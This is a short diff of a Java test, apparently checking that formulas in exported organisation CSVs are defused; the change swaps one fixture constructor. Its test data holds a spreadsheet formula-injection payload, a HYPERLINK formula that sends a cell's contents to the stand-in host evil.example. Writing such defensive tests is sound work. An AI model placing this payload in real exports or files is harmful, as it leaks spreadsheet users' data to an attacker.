@@ -259,7 +259,7 @@ class AnalysisAndCsvTest {
   @Test
   void exported_formulas_are_defused_import_back_verbatim_and_contacts_follow_the_reader() {
     String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez\")";
-    s.registry().create(LOIRET_EDITOR, association(formula, "45234"), false);
+    s.registry().create(LOIRET_EDITOR, company(formula, "45234", null), false);
     StringWriter out = new StringWriter();
     s.csv().exportOrganisations(LOIRET, LOIRET_EDITOR.permissions(), out);
     String csv = out.toString();
